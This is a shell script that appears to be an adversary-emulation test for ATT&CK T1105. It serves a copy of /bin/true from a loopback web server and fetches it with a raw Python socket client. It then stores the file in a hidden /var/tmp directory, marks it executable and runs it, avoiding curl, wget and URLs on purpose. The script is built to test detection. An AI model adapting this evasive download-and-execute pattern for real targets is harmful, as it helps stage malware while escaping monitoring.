#!/bin/sh
# T1105, after Atomic Red Team "Linux Download File and Run" with the tool swapped: no curl or
# wget and no URL on any command line. A python program read from stdin fetches a binary from a
# loopback web server into a hidden directory under /var/tmp, marks it executable and runs it.
set -e
d=$(mktemp -d)
cp /bin/true "$d/update"
port=$((33000 + $$ % 10000))
(cd "$d" && exec /usr/bin/python3 -m http.server --bind 127.0.0.1 "$port" > /dev/null 2>&1) &
srv=$!
i=0; until nc -z 127.0.0.1 "$port" 2>/dev/null || [ $i -ge 150 ]; do sleep 0.1; i=$((i + 1)); done
drop=/var/tmp/.cache-$$
mkdir -p "$drop"
/usr/bin/python3 - "$port" "$drop/kupdate" <<'PY'
import os, socket, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
s.sendall(b"GET /update HTTP/1.0\r\nHost: localhost\r\n\r\n")
data = b""
while True:
    chunk = s.recv(65536)
    if not chunk:
        break
    data += chunk
body = data.split(b"\r\n\r\n", 1)[1]
with open(sys.argv[2], "wb") as f:
    f.write(body)
os.chmod(sys.argv[2], 0o755)
PY
"$drop/kupdate"
rm -rf "$drop"
kill "$srv"
rm -rf "$d"
